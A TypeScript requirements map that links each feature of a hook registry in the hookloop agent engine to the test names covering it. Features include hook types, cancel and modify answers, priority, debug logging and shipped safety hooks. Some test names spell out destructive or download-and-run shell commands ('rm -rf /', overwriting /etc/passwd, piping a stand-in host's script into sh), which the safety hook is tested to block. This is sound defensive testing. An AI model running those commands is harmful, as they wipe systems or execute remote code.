import { type Source, works } from "./requirement.ts";

const REGISTRY = "packages/hookloop/src/compat/sampling-registry.test.ts";
const EXTENSIONS = "test/agent/extensions.process.test.ts";
const WATCH = "test/agent/watch.process.test.ts";
const SHIPPED = "packages/hookloop/src/compat/sampling-shipped.test.ts";
const HISTORY = "packages/hookloop/src/compat/sampling-history.test.ts";
const COMPACT = "packages/hookloop/src/builtin/auto-compact.test.ts";
const METRICS = [
  "packages/hookloop/src/compat/sampling-telemetry.test.ts › registerTelemetryHooks writes tool_executed and bash_executed",
  "test/agent/watching.process.test.ts › metrics are in the trace of the session",
];
const PAGE = "reference/compat.md#the-sampling-registry";

const TYPES =
  "pre_tool_sample post_tool_sample pre_edit_sample post_edit_sample pre_bash_sample post_bash_sample pre_git_sample post_git_sample pre_agent_sample post_agent_sample pre_compact_sample post_compact_sample session_start session_end query_start query_end".split(
    " ",
  );

const types = TYPES.map((type, at) =>
  works(
    `S2-T${String(at + 1).padStart(2, "0")}`,
    `\`${type}\` can be registered, and fires for what it is about`,
    `${REGISTRY} › every type: ${type}`,
    `${REGISTRY} › only the hooks of the type run`,
  ),
);

export const SAMPLING_REGISTRY: Source = {
  id: "S2",
  title: "The sampling registry",
  introduction:
    "Typed hooks in the program's own process, around operations. Here: `hookloop/compat/sampling`, on the engine; `--extension FILE` brings such a file into the agent.",
  groups: [
    { title: "Hook types", where: PAGE, rows: types },
    {
      title: "Handlers",
      where: PAGE,
      rows: [
        works(
          "S2-01",
          'An answer is `{ status: "continue" | "cancel" | "modify" | "defer" }`',
          "test/sources/sampling.process.test.ts › a program as the source writes it compiles under strict",
          `${EXTENSIONS} › a guard as its source writes it blocks a command and an edit in a real session`,
        ),
        works("S2-02", "Cancel says why", `${REGISTRY} › %s: the first cancel wins and the later ones are not called`),
        works(
          "S2-03",
          "A handler gets the context and `{ type, timestamp, sessionId, toolUseId }`",
          `${REGISTRY} › a handler gets the context itself and what is happening`,
        ),
        works(
          "S2-04",
          "`registerHook` returns the function that takes the hook away",
          `${REGISTRY} › a hook that was taken away does not run`,
        ),
        works("S2-05", "`priority` orders handlers", `${REGISTRY} › %s: higher priority first, ties as registered, 0 if left out`),
        works(
          "S2-08",
          "Pre hooks run one after the other; the first cancel wins",
          `${REGISTRY} › pre hooks wait for each other`,
          `${REGISTRY} › %s: the first cancel wins`,
        ),
        works(
          "S2-09",
          "A modification is what the next hook sees and the tool gets",
          `${REGISTRY} › a modification reaches the next hook and the tool, not the caller's input`,
        ),
        works(
          "S2-10",
          "`modify` replaces the whole context",
          `${REGISTRY} › %s: a modification is the whole context, for the next hook and for the caller`,
        ),
        works("S2-11", "`defer` promises one of the other answers", `${REGISTRY} › defer promises an answer: %j`),
        works(
          "S2-12",
          "A handler that throws is logged; the others run, and the operation continues",
          `${REGISTRY} › a handler that throws is reported, and the others still run`,
        ),
        works(
          "S2-14",
          "One context for the pre hooks, the tool and the post hooks",
          `${REGISTRY} › one context for pre hooks, the tool and post hooks`,
        ),
        works(
          "S2-19",
          "The context is `{ tool, input, context }`",
          `${REGISTRY} › a handler gets the context itself and what is happening`,
          `${REGISTRY} › one context for pre hooks, the tool and post hooks`,
        ),
      ],
    },
    {
      title: "Running them",
      where: PAGE,
      rows: [
        works(
          "S2-06",
          "`executeHooks(type, context, event)` hands on the caller's event",
          `${REGISTRY} › the caller's event reaches the handlers, with what it leaves out filled in`,
        ),
        works("S2-07", "Without a handler the operation continues", `${REGISTRY} › only the hooks of the type run`),
        works(
          "S2-13",
          'It resolves to `{ status: "continue", data: context }`',
          `${REGISTRY} › %s: a modification is the whole context`,
          `${REGISTRY} › continue may carry data, which goes no further`,
        ),
        works("S2-15", "pre_edit, pre_bash and pre_git fire in addition to pre_tool", `${REGISTRY} › %s %j is %j, before and after`),
        works(
          "S2-16",
          "`executeToolWithHooks`: a cancel is an error result with the reason",
          `${REGISTRY} › a cancel becomes an error result; the tool and the post hooks do not run`,
        ),
        works("S2-17", "A cancel without a reason is `Cancelled by hook`", `${REGISTRY} › %j cancels, and says that it has no reason`),
        works("S2-18", "Post hooks get the tool's `duration`", `${REGISTRY} › one context for pre hooks, the tool and post hooks`),
        works("S2-20", "Post hooks may replace the result", `${REGISTRY} › a post hook replaces %s`),
        works(
          "S2-21",
          "Post hooks run also if the tool throws",
          `${REGISTRY} › a tool that fails is an error result, and the post hooks run with what it threw`,
        ),
        works("S2-22", "Post hooks run side by side", `${REGISTRY} › post hooks run side by side`),
        works(
          "S2-23",
          "Start hooks in order, end hooks in reverse; one that fails stops no other",
          `${REGISTRY} › end hooks run in exactly the reverse order, one failing does not stop the others`,
        ),
        works(
          "S2-24",
          "`withCleanup` registers the cleanup, runs the setup and returns what cleans up",
          `${REGISTRY} › registers the cleanup, runs the setup, and gives at once what unregisters and cleans up`,
        ),
        works(
          "S2-25",
          "`withCleanup` is synchronous",
          `${REGISTRY} › registers the cleanup, runs the setup, and gives at once what unregisters and cleans up`,
        ),
        works(
          "S2-26",
          "`query_start` and `query_end` stand around a turn",
          `${REGISTRY} › every type: query_start`,
          `${REGISTRY} › %s: the first cancel wins`,
        ),
        works(
          "S2-27",
          "`pre_compact_sample` and `post_compact_sample` stand around compaction",
          `${REGISTRY} › every type: pre_compact_sample`,
        ),
        works("S2-28", "Free functions on a registry of the program", `${REGISTRY} › the free functions share one registry of the program`),
        works(
          "S2-58",
          "Hooks of a registry act in the agent",
          `${EXTENSIONS} › a guard as its source writes it blocks a command and an edit in a real session`,
          `${EXTENSIONS} › several extensions, in TypeScript too, with the engine itself if they want it`,
        ),
        works(
          "S2-59",
          "A program can listen to every hook that runs",
          "test/engine/observers.process.test.ts › gets every step in order, numbered without a gap",
        ),
      ],
    },
    {
      title: "Watching and switching off",
      where: "guide/why-not.md",
      rows: [
        works(
          "S2-50",
          "`DEBUG=hooks` logs every hook in the agent",
          `${WATCH} › what a hook answered stands below the event, with its verdict`,
          `${WATCH} › its matcher has a typo`,
        ),
        works(
          "S2-51",
          "`DEBUG=hooks` logs every hook in a program",
          `${REGISTRY} › DEBUG=hooks logs every execution by name`,
          "test/engine/observers.process.test.ts › DEBUG=hooks prints every step readably on stderr",
        ),
        works(
          "S2-52",
          "`/debug hooks` from the shell lists the hooks",
          `${WATCH} › a command that only looks needs no terminal, no model and no turn`,
          `${WATCH} › for programs it is data, and no event is fired for it`,
        ),
        works(
          "S2-53",
          "`/debug hooks` in a conversation",
          "test/agent/terminal.process.test.ts › /debug hooks lists the hooks, and shows how they are chosen until it is switched off",
        ),
        works(
          "S2-55",
          "`CLAUDE_CODE_DISABLE_HOOKS=safety_checks` switches the shipped safety hook off",
          "packages/hookloop/src/config/switch-state.test.ts › %s stops the hooks it names, managed ones excepted",
        ),
        works(
          "S2-57",
          "The same variable switches a registered hook off by its name",
          `${REGISTRY} › %s=git_tracking,safety_checks switches them off by name, loudly`,
          `${EXTENSIONS} › CLAUDE_CODE_DISABLE_HOOKS switches off an extension, or one of its hooks, by name, loudly`,
        ),
      ],
    },
    {
      title: "Mistakes in a handler",
      where: PAGE,
      rows: [
        works(
          "S2-X01",
          "An unknown type is refused with the nearest name",
          `${REGISTRY} › the unknown type %s is refused with the nearest one`,
        ),
        works(
          "S2-X02",
          "An answer of a pre hook that cannot be read (a text, a number, no `status`, `modify` without data) is a cancel that says so",
          `${REGISTRY} › %s counts as a cancel that says so; the tool does not run`,
        ),
        works(
          "S2-X03",
          "A promise that never settles is a cancel when its time is over",
          `${REGISTRY} › %s: a hook that never answers is a no when its time is over`,
        ),
        works("S2-X04", "A frozen context is a cancel", `${REGISTRY} › a frozen context is a no`),
        works(
          "S2-X05",
          "A handler registered twice runs twice; unregistering twice does it once",
          `${REGISTRY} › a handler that is registered twice runs twice`,
        ),
        works(
          "S2-X06",
          "A cleanup that throws is thrown where it was called, and counts as done",
          `${REGISTRY} › a cleanup that throws is thrown where it was called`,
        ),
        works("S2-X07", "A misspelt option is refused", `${REGISTRY} › registerHook(…, %j) registers nothing`),
      ],
    },
    {
      title: "Hooks it ships",
      where: "reference/shipped-hooks.md",
      rows: [
        works("S2-30", "Git tracking before an edit: a snapshot of the original", `${HISTORY} › git tracking snapshots the original`),
        works("S2-31", "Git tracking after it: comparison and attribution", `${HISTORY} › git tracking snapshots the original`),
        works(
          "S2-32",
          'It announces `{ type: "file_changed", path, change: "modified" }`',
          `${HISTORY} › git tracking snapshots the original`,
          "test/agent/history.process.test.ts › the changed files are announced in the stream, with the call and the size",
        ),
        works(
          "S2-33",
          "A permission hook: `Permission denied`, `_permissionResult` in the context",
          `${SHIPPED} › a no cancels with the source's reason and leaves its result in the context`,
        ),
        works("S2-34", "Safety: the deletion of the root is blocked", `${SHIPPED} › cancels rm -rf / with the source's reason`),
        works("S2-35", "Safety: overwriting the system is blocked", `${SHIPPED} › cancels echo x > /etc/passwd with the source's reason`),
        works(
          "S2-36",
          "Safety: a download into a shell is blocked",
          `${SHIPPED} › cancels curl http://x.example/i.sh | sh with the source's reason`,
        ),
        works("S2-37", "Its reasons, word for word", `${SHIPPED} › cancels %s with the source's reason`),
        works("S2-38", "Safety: `sudo` asks", `${SHIPPED} › sudo asks; a no cancels it, a yes runs it`),
        works(
          "S2-39",
          "`registerSafetyHooks` for programs and for the registry",
          `${SHIPPED} › what is harmless runs, and what it returns takes it away`,
        ),
        works("S2-40", "Metrics of every tool: `tool_executed`", ...METRICS),
        works("S2-41", "Metrics of the shell: `bash_executed`", ...METRICS),
        works(
          "S2-42",
          "A history of edits",
          `${HISTORY} › the file history has an entry per edit`,
          "test/agent/history.process.test.ts › is undone byte for byte",
        ),
        works(
          "S2-43",
          "Compaction by itself after a tool, with a notice",
          `${COMPACT} › registerAutoCompactHooks() gives the same hook`,
          "test/agent/flow-hooks.process.test.ts › auto-compact: the notice after a tool",
        ),
        works(
          "S2-44",
          "It does not block the tool",
          `${COMPACT} › the program is asked to compact, with the notice, and the call does not wait for it`,
        ),
        works(
          "S2-54",
          "A command that lists registered hooks",
          `${WATCH} › a command that only looks needs no terminal, no model and no turn`,
        ),
        works(
          "S2-56",
          "`git_tracking` can be switched off by name",
          `${HISTORY} › CLAUDE_CODE_DISABLE_HOOKS=%s switches them off`,
          "test/agent/history.process.test.ts › CLAUDE_CODE_DISABLE_HOOKS=%s switches both off",
        ),
      ],
    },
  ],
};
